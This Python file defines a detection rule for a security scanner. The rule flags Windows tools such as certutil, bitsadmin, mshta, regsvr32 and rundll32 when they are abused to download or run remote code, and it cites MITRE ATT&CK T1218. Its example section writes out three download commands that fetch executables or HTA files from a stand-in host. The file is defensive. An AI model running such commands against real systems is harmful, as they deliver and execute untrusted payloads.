"""Tools of Windows that download and run what administrators seldom look at."""

from __future__ import annotations

from symbi.contracts.scanner import Pattern, ScannerRule

RULE = ScannerRule(
    id="windows-download-tool",
    category="campaign",
    severity="high",
    message="A tool of Windows is turned into a downloader",
    check=Pattern(
        r"\bcertutil(?:\.exe)?\s(?:.*\s)?[-/](?:urlcache|decode)\b|\bbitsadmin(?:\.exe)?\s.*/transfer\b|\bmshta(?:\.exe)?\s+[\"']?(?:https?:|javascript:|vbscript:)|\bregsvr32(?:\.exe)?\s.*/i:https?:|\brundll32(?:\.exe)?\s.*javascript:"
    ),
    bad=(
        "certutil -urlcache -split -f https://a.example/x x.exe",
        "bitsadmin /transfer j https://a.example/x x",
        "mshta https://a.example/x.hta",
    ),
    good=("certutil -hashfile x SHA256", "mshta is old", "bitsadmin /list"),
    remediation="Use a declared download with a pinned digest.",
    references=("https://attack.mitre.org/techniques/T1218/",),
    tags=("download",),
    default=False,
)
